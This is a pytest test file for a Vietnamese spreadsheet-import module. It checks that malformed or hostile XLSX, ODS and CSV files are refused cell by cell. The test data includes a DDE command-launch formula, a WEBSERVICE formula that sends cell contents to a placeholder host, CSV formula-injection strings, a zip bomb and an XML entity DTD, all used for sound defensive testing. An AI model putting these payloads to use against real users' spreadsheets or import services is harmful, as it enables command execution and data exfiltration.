"""What strangers and tired people put into spreadsheets: each refused with file, sheet, cell and reason, or taken as
what it is; nothing is changed, nothing of a refused file is kept, and no formula is ever worked out."""

from __future__ import annotations

import datetime
import io
import zipfile

import openpyxl
import pytest
from books import HEAD, book, ods, proposals, repacked
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from banggiao.core.access import system
from banggiao.core.errors import DeedRefused
from banggiao.core.models import Event
from banggiao.core.nouns import noun_of
from banggiao.engagements.models import Engagement
from banggiao.reading.sheets import values
from banggiao.sources.columns import Columns
from banggiao.sources.headings import score_for
from banggiao.sources.models import Claim, Source
from banggiao.sources.table_file import SheetUnclear, TableRefused, table_read
from banggiao.sources.tables import table_load

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("vietnam", "home")]
SHEET = "xl/worksheets/sheet1.xml"
BY = system("Lan")


def load(data, name="bang.xlsx", **more):
    noun = noun_of("engagement")
    table = table_read(name, data, score=score_for(noun), sheet=more.pop("sheet", ""))
    return table_load(noun=noun, table=table, by=BY, **more)


def counts():
    return [model.objects.count() for model in (Engagement, Claim, Event, Source)]


def refused(data, name="bang.xlsx", **more):
    """Return (cell, what was there, reason) of each fault of a file that is refused."""
    before = counts()
    with pytest.raises(DeedRefused) as told:
        load(data, name, **more)
    assert counts() == before, "nothing may be changed"
    faults = getattr(told.value, "faults", ())
    assert all(str(fault).startswith(name) for fault in faults)
    return [(f"{f.letter}{f.line}", f.given, f.vietnamese) for f in faults] or [
        ("", "", told.value.vietnamese)
    ]


def rows(*changes):
    """Return two proposals with cells changed: (row from 0, column from 0, value)."""
    table = [list(row) for row in proposals(2)]
    for row, column, value in changes:
        table[row + 1][column] = value
    return table


@pytest.mark.parametrize(
    ("change", "cell", "reason"),
    [
        ((0, 6, "31/2/2026"), "G2", "Không phải ngày"),
        ((1, 6, "sau Tết"), "G3", "Không phải ngày"),
        ((0, 6, 12345678), "G2", "Không phải ngày"),
        ((0, 6, "29/2/2026"), "G2", "Không phải ngày"),
        ((1, 6, "1/13/2026"), "G3", "Không phải ngày"),
        ((0, 7, "1/1/3026"), "H2", "ngoài phạm vi"),
        ((0, 7, "1/1/2020"), "H2", "Kết thúc trước khi bắt đầu"),
        ((1, 2, "dã ngoại"), "C3", "không có trong danh sách"),
        ((1, 3, "Sở Không Có"), "D3", "Không tìm thấy"),
        ((0, 1, None), "B2", "Hãy ghi"),
        ((0, 1, "x" * 301), "B2", "301 ký tự"),
    ],
)  # fmt: skip
def test_a_cell_that_cannot_be_right_is_named_with_what_was_there(change, cell, reason):
    ((told, given, why),) = refused(book(rows(change)))
    assert told == cell and reason in why
    assert given == str(change[2] or "")[:80]


@pytest.mark.parametrize(
    ("noun", "heading", "told", "reason"),
    [
        ("figure", "value", "khoảng mười", "Không phải số"), ("figure", "value", "1,2,3", "Không phải số"),
        ("figure", "value", "NaN", "Không phải số"), ("figure", "value", "9" * 20, "Số quá lớn"),
        ("figure", "value", True, "Không phải số"), ("post", "precedence", "1,5", "Cần số nguyên"),
        ("post", "precedence", -1, "Nhỏ nhất là 0"), ("post", "single", "có lẽ", "“có” hoặc “không”"),
    ],
)  # fmt: skip
def test_a_cell_of_another_type_is_named_with_what_was_there(noun, heading, told, reason):
    """Faults besides this one are of columns that are not there."""
    noun = noun_of(noun)
    table = table_read("bang.xlsx", book([[heading], [told]]), score=score_for(noun))
    before = counts()
    columns = Columns((noun.by_name[heading],))
    with pytest.raises(TableRefused) as refused:
        table_load(noun=noun, table=table, by=BY, columns=columns)
    found = [str(fault) for fault in refused.value.faults]
    assert any(one.startswith("bang.xlsx") and "ô A2" in one and reason in one for one in found), found
    assert counts() == before


def test_a_fault_names_file_sheet_cell_and_column_in_both_languages():
    with pytest.raises(TableRefused) as told:
        load(book(rows((0, 6, "31/2/2026")), title="Biểu 1"))
    fault = told.value.faults[0]
    assert str(fault).startswith("bang.xlsx, trang “Biểu 1”, ô G2, cột “Từ ngày”: Không phải ngày")
    assert fault.message("en").startswith("bang.xlsx, sheet “Biểu 1”, cell G2, column “Từ ngày”: Not a date")


def test_dates_and_numbers_are_what_the_cells_hold_however_they_are_shown():
    def more(workbook):
        sheet = workbook.active
        sheet["G2"], sheet["H2"] = datetime.date(2026, 3, 10), datetime.datetime(2026, 3, 12, 8, 30)
        sheet["G3"] = datetime.date(2026, 4, 1)
        sheet["G3"].number_format, sheet["H3"] = "mm/yyyy", "quý II/2026"
        sheet["B3"] = 2026

    load(book(rows(), more=more))
    first, second = Engagement.objects.filter(host__code="mfa").order_by("-id")[:2][::-1]
    assert (str(first.valid_from), str(first.valid_to)) == ("2026-03-10", "2026-03-12")
    assert (second.valid_from_precision, second.valid_to_precision, second.title) == (
        "month",
        "quarter",
        "2026",
    )


@pytest.mark.parametrize(
    ("told", "kept"),
    [("1.234,5", "1234.5"), (1.234, "1.234"), (1234.5, "1234.5"), ("1.234", "1234"), (0.1 + 0.2, "0.3"), (15, "15")],
)  # fmt: skip
def test_vietnamese_numbers_are_read_and_a_number_in_a_cell_is_never_taken_for_thousands(told, kept):
    noun = noun_of("figure")
    Source.objects.filter(kind="table").delete()
    load_rows = [("indicator", "subject", "value", "unit", "valid_from", "valid_to", "as_of"),
                 ("kt", "mfa", told, "người", "2024", "2024", "2025-01-01")]  # fmt: skip
    from banggiao.sources.records import records_create

    records_create(noun_of("indicator"), [{"code": "kt", "name_vi": "Kiểm thử", "unit": "người"}], by=BY)
    table = table_read("so.xlsx", book(load_rows), score=score_for(noun))
    table_load(noun=noun, table=table, by=BY)
    claim = Claim.objects.filter(noun="figure").latest("id")
    value = claim.says["value"]
    assert value == kept or (kept == "0.3" and value.startswith("0.3"))


def formula(cell, text, stored=None):
    """Return a workbook in which a cell is a formula, with the value that was last computed."""
    data = book(rows(), more=lambda workbook: workbook.active.__setitem__(cell, f"={text}"))
    value = "" if stored is None else f"<v>{stored}</v>"
    return repacked(
        data, {SHEET: lambda xml: xml.replace(b"<v></v>", value.encode()).replace(b"<v />", value.encode())}
    )


def test_a_formula_is_taken_as_its_stored_value_and_told():
    told = load(formula("F2", "A1&B1", "Osaka").replace(b"", b""))
    assert [(w.letter, w.line, w.given) for w in told.warnings] == [("F", 2, "Osaka")]
    assert Engagement.objects.filter(place="Osaka").count() == 1


@pytest.mark.parametrize(
    ("text", "stored", "reason"),
    [
        ("TODAY()", None, "chưa có giá trị"),
        ("[1]Sheet1!A1", "x", "tệp hoặc chương trình khác"),
        ("'[Ngân sách.xlsx]Tổng'!A1", "x", "tệp hoặc chương trình khác"),
        ("cmd|'/C calc'!A0", "x", "tệp hoặc chương trình khác"),
        ('WEBSERVICE("http://a.example/?"&amp;A1)', "x", "tệp hoặc chương trình khác"),
        ('HYPERLINK("http://a.example/","x")', "x", "tệp hoặc chương trình khác"),
    ],
)  # fmt: skip
def test_a_formula_without_a_value_or_from_elsewhere_is_refused_at_its_cell(text, stored, reason):
    told = refused(formula("F2", text.replace("&amp;", "&"), stored))
    assert [(cell, reason in why) for cell, _, why in told] == [("F2", True)]


def test_a_formula_in_a_column_that_is_left_out_harms_nobody():
    assert load(formula("A2", "ROW()-1", "1")).rows == 2


def test_a_text_that_looks_like_a_formula_stays_a_text_in_a_workbook_and_is_refused_in_csv():
    def more(workbook):
        workbook.active["F2"].value = "=1+1"
        workbook.active["F2"].data_type = "s"

    load(book(rows(), more=more))
    assert Engagement.objects.filter(place="=1+1").count() == 1
    text = 'title,kind,place\nx,meeting,=1+1\ny,meeting,@SUM(A1)\nz,meeting,"\t=1"\nw,meeting,＝1\n'
    assert [cell for cell, _, _ in refused(text.encode(), "bang.csv")] == ["C2", "C3", "C4", "C5"]


def test_links_to_programs_are_refused_with_the_whole_file():
    part = "xl/externalLinks/externalLink1.xml"
    data = repacked(
        book(rows()), {part: lambda _: b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
    )
    assert "DDE" in refused(data)[0][2]


def test_merged_cells_among_the_rows_are_refused_and_those_of_titles_are_not():
    title = [["DANH MỤC"], *rows()]
    assert load(book(title, more=lambda w: w.active.merge_cells("A1:H1"))).rows == 2
    told = refused(book(rows(), more=lambda w: w.active.merge_cells("F2:F3")))
    assert told[0][:2] == ("F2", "F2:F3") and "Ô gộp" in told[0][2]


def test_merged_cells_of_an_open_document_sheet_are_refused_too():
    head = "".join(cell("string", told) for told in ("Tên hoạt động", "Loại", "Địa điểm"))
    line = cell("string", "Họp") + cell("string", "meeting", number_rows_spanned="2") + cell("string", "Huế")
    below = cell("string", "Gặp") + "<table:covered-table-cell/>" + cell("string", "Huế")
    told = refused(ods(sheet(head, line, below)), "bang.ods")
    assert ("B2", "B2:B3") in [one[:2] for one in told]


def test_a_header_below_titles_on_two_rows_with_numbered_columns_is_found():
    table = [["SỞ Y TẾ"], [], ["ĐỀ XUẤT HOẠT ĐỐI NGOẠI NĂM 2026"],
             ["TT", "Nội dung hoạt động", "Loại hình", "Thời gian", None, "Nơi đến"],
             [None, None, None, "Từ ngày", "Đến ngày", None],
             ["(1)", "(2)", "(3)", "(4)", "(5)", "(6)"],
             [1, "Đoàn đi Huế", "meeting", "1/3/2026", "2/3/2026", "Huế"]]  # fmt: skip
    assert load(book(table)).rows == 1
    visit = Engagement.objects.get(title="Đoàn đi Huế")
    assert (str(visit.valid_from), str(visit.valid_to), visit.place) == ("2026-03-01", "2026-03-02", "Huế")


def test_doubled_unknown_and_too_many_columns_are_named():
    doubled = [[*row, "x"] for row in rows()]
    doubled[0][-1] = "Địa điểm"
    assert refused(book(doubled))[0][0] == "I1"
    unknown = [[*row, "x"] for row in rows()]
    unknown[0][-1] = "Màu sắc"
    assert refused(book(unknown))[0][0] == "I1"
    wide = [[*row, *["x"] * 292] for row in rows()]
    wide[0][8:] = [f"cột {n}" for n in range(292)]
    assert "300 cột" in refused(book(wide))[0][2]


def test_of_several_sheets_the_one_with_the_table_is_read_and_two_alike_are_asked_about():
    def guide(workbook):
        workbook.create_sheet("Hướng dẫn").append(["Ghi ngày theo dạng dd/mm/yyyy"])

    assert load(book(rows(), more=guide)).rows == 2

    def twice(workbook):
        sheet = workbook.create_sheet("Bản 2")
        for row in proposals(1, start=9):
            sheet.append(list(row))

    data = book(rows(), more=twice)
    with pytest.raises(SheetUnclear) as unclear:
        load(data)
    assert unclear.value.sheets == ("Đề xuất", "Bản 2")
    assert load(data, sheet="Bản 2").rows == 1
    assert refused(data, sheet="Không có")[0][2].startswith("Không có trang tính “Không có”; các trang có: “")
    assert refused(b"code,title\na,b\n", name="a.csv", sheet="Bản 2")[0][2] == "Tệp CSV không có trang tính."


def test_hidden_rows_are_read_and_told():
    told = load(book(rows(), more=lambda w: setattr(w.active.row_dimensions[3], "hidden", True)))
    assert (told.rows, [w.line for w in told.warnings]) == (2, [3])


@pytest.mark.parametrize("place", ["cell", "hidden sheet", "header", "sheet name"])
def test_a_mark_of_secrecy_is_seen_wherever_it_stands(place):
    def more(workbook):
        if place == "cell":
            workbook.active["J1"] = "TỐI MẬT"
        elif place == "hidden sheet":
            other = workbook.create_sheet("ẩn")
            other.append(["Độ mật: Mật"])
            other.sheet_state = "hidden"
        elif place == "header":
            workbook.active.oddHeader.center.text = "TUYỆT MẬT"
        else:
            workbook.active.title = "MẬT"

    assert "bí mật nhà nước" in refused(book(rows(), more=more))[0][2]


def test_macros_other_files_and_passwords_are_refused():
    macros = repacked(book(rows()), {"xl/vbaProject.bin": lambda _: b"x"})
    assert "macro" in refused(macros)[0][2]
    kinds = repacked(
        book(rows()),
        {"[Content_Types].xml": lambda xml: xml.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")},
    )
    assert "macro" in refused(kinds)[0][2]
    word = io.BytesIO()
    with zipfile.ZipFile(word, "w") as archive:
        archive.writestr("word/document.xml", "<x/>")
    assert refused(word.getvalue())
    locked = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le")
    assert "mật khẩu" in refused(locked)[0][2]


def test_an_old_excel_file_is_called_so_with_the_way_to_save_it_anew():
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    for data, name in (
        (head, "cu.XLS"),
        (head + "Workbook\0".encode("utf-16-le"), "doi-ten.xlsx"),
        (head + "Book\0".encode("utf-16-le"), "bang"),
    ):
        told = refused(data, name)[0][2]
        assert told.startswith("Tệp Excel đời cũ (.xls") and "Lưu thành" in told and "hỏng" not in told
    word = refused(head + "WordDocument\0".encode("utf-16-le"), "van-ban.xlsx")[0][2]
    assert "Loại tệp không được nhận" in word


def test_ten_million_cells_are_refused_and_a_lying_dimension_is_not_believed(monkeypatch):
    lying = repacked(
        book(rows()),
        {SHEET: lambda xml: xml.replace(b'<dimension ref="A1:H3"', b'<dimension ref="A1:XFD1048576"')},
    )
    assert load(lying).rows == 2
    monkeypatch.setattr("banggiao.reading.sheets.xlsx.MOST_CELLS", 1000)
    empty = b"".join(b'<row r="%d"><c r="A%d" s="0"/></row>' % (n, n) for n in range(9, 2000))
    many = repacked(book(rows()), {SHEET: lambda xml: xml.replace(b"</sheetData>", empty + b"</sheetData>")})
    assert "quá nhiều ô" in refused(many)[0][2]
    one_row = b'<row r="9">' + b"<c/>" * 2000 + b"</row>"
    wide = repacked(
        book(rows()), {SHEET: lambda xml: xml.replace(b"</sheetData>", one_row + b"</sheetData>")}
    )
    assert "quá nhiều ô" in refused(wide)[0][2]


def test_a_csv_file_of_too_many_cells_or_of_one_endless_row_is_refused_at_its_line(monkeypatch):
    monkeypatch.setattr("banggiao.reading.sheets.values.MOST_CELLS", 10)
    long = "title,kind\n" + "Họp,meeting\n" * 8
    assert [(cell, "quá nhiều ô" in why) for cell, _, why in refused(long.encode(), "bang.csv")] == [
        ("7", True)
    ]
    monkeypatch.setattr("banggiao.sources.table_rows.LONGEST_ROW", 100)
    for row in ("x" + "," * 200, '"x\n' + '","\n' * 60):
        told = refused(f"title,kind\nHọp,meeting\n{row}\n".encode(), "bang.csv")
        assert [(cell, "quá dài" in why) for cell, _, why in told] == [("3", True)]
    assert "Tiêu đề" in refused(("," * 200).encode(), "bang.csv")[0][2]


def test_shared_strings_beyond_all_measure_are_refused(monkeypatch):
    monkeypatch.setattr("banggiao.reading.sheets.xlsx._MOST_STRINGS", 2000)
    space = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'

    def strings(count):
        return {
            "xl/sharedStrings.xml": lambda _: b"<sst %s>%s</sst>" % (space, b"<si><t>chu</t></si>" * count)
        }

    assert load(repacked(book(rows()), strings(600))).rows == 2
    assert "quá nhiều chữ" in refused(repacked(book(rows()), strings(900)))[0][2].lower()


def test_zip_bombs_entities_and_broken_files_are_refused(monkeypatch):
    bomb = repacked(book(rows()), {"xl/media/x.bin": lambda _: b"\0" * (300 * 1024 * 1024 // 64) * 64})
    assert "lớn bất thường" in refused(bomb)[0][2]
    entities = repacked(book(rows()), {SHEET: lambda xml: b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + xml})
    assert "DTD" in refused(entities)[0][2]
    cut = book(rows())
    assert refused(cut[: len(cut) // 2])
    assert refused(repacked(book(rows()), {SHEET: lambda xml: xml[: len(xml) // 2]}))
    utf16 = repacked(book(rows()), {SHEET: lambda xml: xml.decode().encode("utf-16")})
    assert refused(utf16)
    backwards = repacked(book(rows()), {SHEET: lambda xml: xml.replace(b'<row r="3"', b'<row r="2"')})
    assert "thứ tự" in refused(backwards)[0][2]
    monkeypatch.setattr("banggiao.reading.sheets.values.LONGEST_CELL", 100)
    assert "quá dài" in refused(book(rows((0, 1, "x" * 500))))[0][2]


@pytest.mark.parametrize(
    "data", [book([]), book([[]]), book([["chỉ một ô"]]), b"", b"PK\x03\x04", b"\xff\xfe"]
)
def test_empty_files_are_refused(data):
    assert refused(data)


def test_an_error_in_a_cell_is_refused_and_in_a_column_left_out_is_not():
    def broken(cell):
        data = book(rows(), more=lambda w: w.active.__setitem__(cell, "#REF!"))
        return repacked(data, {SHEET: lambda xml: xml})

    told = refused(broken("F2"))
    assert told[0][0] == "F2" and "#REF!" in told[0][2]
    assert load(broken("A2")).rows == 2


def cell(kind, shown, **more):
    told = "".join(
        f' {"table" if name.startswith("number") or name == "formula" else "office"}:{name.replace("_", "-")}="{value}"'
        for name, value in more.items()
    )
    return f'<table:table-cell office:value-type="{kind}"{told}><text:p>{shown}</text:p></table:table-cell>'


def sheet(*lines, name="Bảng"):
    return (
        f'<table:table table:name="{name}">'
        + "".join(f"<table:table-row>{line}</table:table-row>" for line in lines)
        + "</table:table>"
    )


def test_an_open_document_sheet_is_read_with_its_dates_and_formulas():
    head = "".join(cell("string", told) for told in ("Tên hoạt động", "Loại", "Địa điểm", "Từ ngày"))
    line = cell("string", "Đoàn ODS") + cell("string", "meeting") + cell("string", "Huế", formula="of:=[.A1]")
    line += cell("date", "10/03/2026", date_value="2026-03-10")
    told = load(ods(sheet(head, line)), "bang.ods")
    assert [(w.letter, w.line) for w in told.warnings] == [("C", 2)]
    visit = Engagement.objects.get(title="Đoàn ODS")
    assert (visit.place, str(visit.valid_from)) == ("Huế", "2026-03-10")
    claim = Claim.objects.get(record_key=visit.key)
    assert claim.heading_path == ["Bảng", "A2:D2"]


def test_an_open_document_sheet_that_repeats_itself_a_million_times_is_refused():
    head = "".join(cell("string", told) for told in ("title", "kind"))
    line = f'<table:table-row table:number-rows-repeated="1000000">{cell("string", "x", number_columns_repeated="9")}</table:table-row>'
    data = ods(sheet(head).replace("</table:table>", line + "</table:table>"))
    assert "quá nhiều ô" in refused(data, "bang.ods")[0][2]
    dde = "<table:dde-links><table:dde-link/></table:dde-links>"
    assert "DDE" in refused(ods(sheet(head) + dde), "bang.ods")[0][2]
    assert "bí mật" in refused(ods(sheet(head, cell("string", "MẬT"))), "bang.ods")[0][2]


def test_the_separator_line_of_excel_and_titles_above_are_passed_over_in_csv():
    text = "sep=;\nDANH MỤC ĐỀ XUẤT;;\n;;\nTên hoạt động;Loại;Từ ngày\nGặp, trao đổi;meeting;1/3/2026\n"
    assert load(text.encode("utf-8-sig"), "bang.csv").rows == 1
    claim = Claim.objects.get(record_key=Engagement.objects.get(title="Gặp, trao đổi").key)
    assert (claim.paragraph, claim.heading_path) == (5, [])
    faulty = "DANH MỤC;;\nTên hoạt động;Loại;Từ ngày\nx;meeting;30/2/2026\n"
    assert refused(faulty.encode(), "bang.csv")[0][0] == "C3"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=400), st.integers(0, 5000), st.binary(max_size=40))
def test_any_bytes_and_any_damage_are_read_or_refused(data, at, dirt):
    whole = _WHOLE
    damaged = whole[: at % len(whole)] + dirt + whole[at % len(whole) + len(dirt) :]
    for given_data in (data, b"PK\x03\x04" + data, damaged):
        try:
            list(table_read("x.xlsx", given_data, score=score_for(noun_of("engagement"))).rows())
        except DeedRefused:
            continue


_WHOLE = book(proposals(2))


def test_letters_of_columns():
    told = [values.letter_of(n) for n in (0, 25, 26, 701, 702)]
    assert told == ["A", "Z", "AA", "ZZ", "AAA"]
    assert [values.column_of(letters) for letters in told] == [0, 25, 26, 701, 702]
    assert openpyxl.utils.get_column_letter(703) == "AAA"
    assert HEAD[0] == "STT"
